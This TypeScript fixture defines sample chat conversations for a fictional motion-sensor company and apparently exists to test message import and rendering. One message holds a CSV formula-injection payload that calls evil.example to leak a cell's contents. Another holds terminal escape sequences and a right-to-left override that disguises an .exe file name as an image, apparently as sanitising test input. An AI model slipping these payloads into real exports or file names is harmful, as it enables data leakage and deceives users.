import type { MessageRecord } from '../records.ts';

/** Something that was said: who, minutes after what came before, the Markdown, and what else is known of it. */
type Line = readonly [sender_id: number, after: number, content: string, more?: Partial<MessageRecord>];

export interface Conversation {
  /** Channel id, or undefined for a direct conversation. */
  readonly stream_id?: number;
  readonly topic: string;
  /** Everybody in a direct conversation. */
  readonly people?: readonly number[];
  readonly recipient_id?: number;
  /** Moment of the first line, RFC 3339. */
  readonly begins: string;
  readonly lines: readonly Line[];
}

const [mara, tomas, ines, jonas, priya, bot] = [8, 9, 10, 11, 12, 13] as const;

const thumbsUp = { emoji_name: 'thumbs_up', emoji_code: '1f44d', reaction_type: 'unicode_emoji' } as const;
const tada = { emoji_name: 'tada', emoji_code: '1f389', reaction_type: 'unicode_emoji' } as const;
const harbour = { emoji_name: 'harbour', emoji_code: '1', reaction_type: 'realm_emoji' } as const;
const by = (emoji: typeof thumbsUp | typeof tada | typeof harbour, ...users: readonly number[]) =>
  users.map((user_id) => ({ ...emoji, user_id }));
const at = (text: string) => Date.parse(text) / 1000;

const tooMuch = 'The gait lab lost about 20% of the samples with all 17 sensors at 120 Hz. At 60 Hz it is fine.';
const editedAt = at('2026-01-19T09:14:00Z');
const before = { prev_content: tooMuch, prev_rendered_content: `<p>${tooMuch}</p>` };
const corrected: Partial<MessageRecord> = {
  edit_history: [{ user_id: ines, timestamp: editedAt, ...before }],
  last_edit_timestamp: editedAt,
};
const movedAt = at('2026-03-04T10:00:00Z');
const move = { prev_stream: 3, stream: 1, prev_topic: '2.9.0', topic: 'sync of two groups' };
const moved: Partial<MessageRecord> = {
  edit_history: [{ user_id: mara, timestamp: movedAt, ...move }],
  last_moved_timestamp: movedAt,
};

/** Each message on a line of its own, however long. */
// prettier-ignore
export const sampleConversations: readonly Conversation[] = [
  { stream_id: 1, topic: 'onboarding', begins: '2026-01-12T08:02:00Z', lines: [
    [mara, 0, 'Welcome to **Harbour Motion**! Sensors are in the blue cabinet, charging docks next to the window.', { reactions: by(tada, tomas, ines) }],
    [mara, 2, 'Every user of an app gets a license key of their own. Never put one into the app itself, never hand the same one to two people.', { flags: { [mara]: ['read', 'starred'] } }],
    [tomas, 9, 'Where do I find the API key of app 4711?'],
    [mara, 4, 'In the dashboard under credentials. It belongs to the backend only, please keep it out of the repository.'],
    [ines, 31, 'The checklist for new colleagues is at https://wiki.harbour.example/onboarding'],
    [tomas, 3, 'Thanks, found it. Two typos fixed on the way.'],
    [mara, 40330, 'Please welcome @**Jonas Weber**, who takes over the firmware builds.', { flags: { [jonas]: ['read', 'mentioned'] }, reactions: by(harbour, ines) }],
    [jonas, 12, 'Hello everybody! Looking forward to it.'],
  ] },
  { stream_id: 1, topic: 'lunch', begins: '2026-01-13T10:45:00Z', lines: [
    [ines, 0, 'Soup place or the falafel truck?'],
    [tomas, 2, 'Falafel. I have been thinking of it since nine.'],
    [mara, 1, 'Falafel, 12:15 at the door.', { reactions: by(thumbsUp, tomas) }],
    [ines, 4318, 'Soup today, it is minus eleven outside.'],
    [tomas, 3, '/me brings the thermos'],
  ] },
  { stream_id: 1, topic: 'Lunch', begins: '2026-02-10T10:50:00Z', lines: [
    [jonas, 0, 'Is there a canteen around here?'],
    [tomas, 2, 'There was a topic for that, but yes: second floor of the shipyard, until two.'],
    [jonas, 1, 'Found it, excellent dumplings.'],
  ] },
  { stream_id: 1, topic: '✔ dropped samples at 120 Hz', begins: '2026-01-19T09:10:00Z', lines: [
    [ines, 0, 'The gait lab lost about 2% of the samples with all 17 sensors at 120 Hz. At 60 Hz it is fine.', corrected],
    [tomas, 14, 'Which radio channel? With 17 sensors the schedule is full, one retry and the next slot is gone.'],
    [ines, 6, 'Channel 11, same as the wifi upstairs. Log:\n\n```\n09:02:11.204 slot 14 retry 1\n09:02:11.213 slot 15 missed\n09:02:11.221 slot 16 missed\n```'],
    [tomas, 25, 'Then please try channel 25 and tell me what `missed/s` says.'],
    [ines, 58, '0.03% now. I call that solved.', { reactions: by(thumbsUp, tomas, mara) }],
    [tomas, 2, 'Written down in [the radio guide](https://wiki.harbour.example/radio#channels).'],
  ] },
  { stream_id: 1, topic: 'license audit', begins: '2026-02-16T13:00:00Z', lines: [
    [mara, 0, 'Sensor D4:22:CD:00:03:02 shows up under physio-7740, but its first activation was physio-7731.'],
    [ines, 11, 'They share a practice. Probably lent for a day?'],
    [mara, 3, 'Then each of them still needs a key. I will write to them, please do not reuse the old one.'],
    [tomas, 45, 'For the record, the roster as it stands:\n\n=HYPERLINK("https://evil.example/?leak="&A1,"roster"),physio-7731,4'],
    [mara, 1, 'Please paste formulas in backticks, somebody will open the export in a spreadsheet.', { reactions: by(thumbsUp, tomas) }],
    [ines, 20, '@**all** roster for March is due on Friday.', { flags: { [mara]: ['read', 'stream_wildcard_mentioned'], [tomas]: ['read', 'stream_wildcard_mentioned'], [jonas]: ['stream_wildcard_mentioned'] } }],
  ] },
  { stream_id: 1, topic: 'terminal colours in the logs', begins: '2026-02-18T15:20:00Z', lines: [
    [jonas, 0, 'The bootloader log comes with colours: \u001b[31mERROR\u001b[0m flash page 12 \u001b]0;owned\u0007 and then a bell \u0007'],
    [tomas, 7, 'And whoever named this file was a joker: firmware-\u202egnp.exe\u202c, shown as an image on my screen. Zero width: a\u200bb.'],
    [jonas, 4, 'Both are stripped from tomorrow on.'],
  ] },
  { stream_id: 1, topic: '', begins: '2026-02-23T07:55:00Z', lines: [
    [mara, 0, 'Heating is out on the first floor, please take the room on the third.'],
    [ines, 18, 'The docks are on the first floor too. I carry them up.'],
    [mara, 130, 'Heating is back.', { reactions: by(tada, ines) }],
  ] },
  { stream_id: 1, topic: 'sync of two groups', begins: '2026-03-02T08:30:00Z', lines: [
    [priya, 0, 'Can one measurement hold 20 sensors, as two groups of 10?'],
    [tomas, 16, 'No, 18 is the most that can take part in one measurement together. Two measurements of 10 work.'],
    [priya, 3, 'Are their clocks the same then?'],
    [tomas, 12, 'Within 1 ms if one receiver is the master. See the picture: https://wiki.harbour.example/sync.png', { reactions: by(thumbsUp, priya) }],
    [priya, 5, 'Great, that is enough for us.'],
    [ines, 2880, 'Moved here from the releases channel.', moved],
  ] },
  { stream_id: 2, topic: 'bootloader 1.4', begins: '2026-02-12T09:00:00Z', lines: [
    [jonas, 0, 'Bootloader 1.4 checks the signature before it erases a page. Needs testing with a flat battery. See #77.', { topic_links: [] }],
    [tomas, 21, 'Interrupted it at 30%, 60% and 95%. Comes back every time.', { reactions: by(thumbsUp, jonas) }],
    [jonas, 4, 'Then it goes into 2.9.0.'],
    [tomas, 7200, 'One sensor of forty needed two attempts. Serial D4:22:CD:00:03:05, same as in January.'],
    [jonas, 35, 'Same flash lot? The one from the old supplier is slow below 5 °C.'],
    [tomas, 10, 'Same lot. I label them.'],
  ] },
  { stream_id: 2, topic: 'battery curve', begins: '2026-02-25T14:00:00Z', lines: [
    [jonas, 0, 'New curve: 100 % at 4.16 V, 20 % at 3.62 V, shutdown at 3.30 V.'],
    [tomas, 8, 'Users complain that the last 20 % last three minutes.'],
    [jonas, 9, 'They do. The curve is honest now; before, it was optimistic.', { flags: { [tomas]: ['read', 'starred'] } }],
  ] },
  { stream_id: 3, topic: '2.8.3', begins: '2026-01-28T16:00:00Z', lines: [
    [bot, 0, '**2.8.3** is out.\n\n* fixes the export of long measurements\n* German texts completed'],
    [ines, 30, 'Confirmed at two customers.'],
  ] },
  { stream_id: 3, topic: '2.9.0', begins: '2026-03-03T16:00:00Z', lines: [
    [bot, 0, '**2.9.0** is out.\n\n* bootloader 1.4\n* honest battery curve\n* up to 18 sensors in one measurement'],
    [tomas, 14, 'Rollout at 10% until Thursday.'],
    [ines, 41, 'First clinic has it, no complaints so far.'],
    [bot, 2820, 'Rollout of **2.9.0**: 100%'],
  ] },
  { stream_id: 4, topic: 'consent forms', begins: '2026-02-05T10:00:00Z', lines: [
    [ines, 0, 'Signed forms of ward 3 are in the safe, scans in [the folder](/user_uploads/2/ward-3.pdf).'],
    [tomas, 22, 'Counted: 14 of 14.'],
  ] },
  { stream_id: 5, topic: 'budget 2026', begins: '2026-01-21T12:00:00Z', lines: [
    [mara, 0, 'Forty more sensors in May, the rest in September: [the plan](/user_uploads/2/budget-2026.pdf).'],
    [tomas, 18, 'Then licenses for the ski team must be larger before: 12 is tight.'],
  ] },
  { stream_id: 6, topic: 'ideas', begins: '2026-01-12T07:00:00Z', lines: [
    [ines, 0, 'A metronome that follows the stride. Archived, but I still want it.'],
  ] },
  { stream_id: 7, topic: 'friday cake', begins: '2026-02-27T13:00:00Z', lines: [
    [tomas, 0, 'Cake in the kitchen.'],
    [ines, 2, 'Was cake in the kitchen.'],
  ] },
  { people: [mara, tomas], recipient_id: 201, topic: '', begins: '2026-02-16T13:20:00Z', lines: [
    [mara, 0, 'Could you check what the app says when a key is refused? The message to the user must not show the key.'],
    [tomas, 26, 'It shows the first four characters. I change that today.'],
    [mara, 1, 'Thank you!', { flags: { [tomas]: [] } }],
  ] },
  { people: [mara, tomas, ines], recipient_id: 202, topic: '', begins: '2026-03-05T09:00:00Z', lines: [
    [ines, 0, 'Visit of the gait lab on the 19th. Who comes along?'],
    [tomas, 4, 'I do.'],
    [mara, 9, 'So do I. `ward-3` wants to see the audit as well.', { flags: { [tomas]: ['has_alert_word'] } }],
  ] },
  { people: [tomas, ines], recipient_id: 203, topic: '', begins: '2026-03-06T17:00:00Z', lines: [
    [ines, 0, 'The pilot is extended by a month. Not public yet.', { flags: { [tomas]: [] } }],
  ] },
  { stream_id: 1, topic: 'who has dock 4?', begins: '2026-03-12T08:00:00Z', lines: [
    [ines, 0, 'Dock 4 is missing from the cabinet.', { flags: { [mara]: [], [tomas]: [] } }],
    [jonas, 25, 'On my desk, sorry. Back in an hour.', { flags: { [mara]: [], [tomas]: [] } }],
    [ines, 3, '@**Mara Lindqvist** can we order a fifth one?', { flags: { [mara]: ['mentioned'], [tomas]: [] } }],
    [mara, 55, 'Ordered.', { flags: { [tomas]: [] }, reactions: by(tada, ines) }],
  ] },
];

/** A topic so long that its deletion takes several calls: the station writes down every sensor that it calibrated. */
export const calibrationLog: Conversation = {
  stream_id: 1,
  topic: 'calibration log',
  begins: '2026-01-26T07:30:00Z',
  lines: Array.from({ length: 320 }, (_, index) => {
    const hex = (byte: number): string => byte.toString(16).toUpperCase().padStart(2, '0');
    const sensor = `D4:22:CD:00:${hex(3 + (index >> 8))}:${hex(index & 255)}`;
    const offset = (((index * 37) % 41) / 100).toFixed(2);
    const verdict = index % 53 === 52 ? 'out of range, calibrate again' : 'ok';
    const text = `\`${sensor}\` calibrated: offset ${offset}°, drift ${(index * 13) % 9} µg/√Hz, ${verdict}`;
    return [bot, index === 0 ? 0 : 7 + (index % 5), text];
  }),
};

/** One line a night. */
export const nightlyBuilds: Conversation = {
  stream_id: 2,
  topic: 'nightly builds',
  begins: '2026-01-13T02:00:00Z',
  lines: Array.from({ length: 58 }, (_, index) => {
    const number = 1400 + index;
    const text =
      index % 17 === 11
        ? `build ${number} **failed**: https://ci.harbour.example/builds/${number}`
        : `build ${number} passed, ${512 + ((index * 7) % 40)} tests, image ${196 + (index % 6)} KiB`;
    return [bot, index === 0 ? 0 : 1440, text];
  }),
};
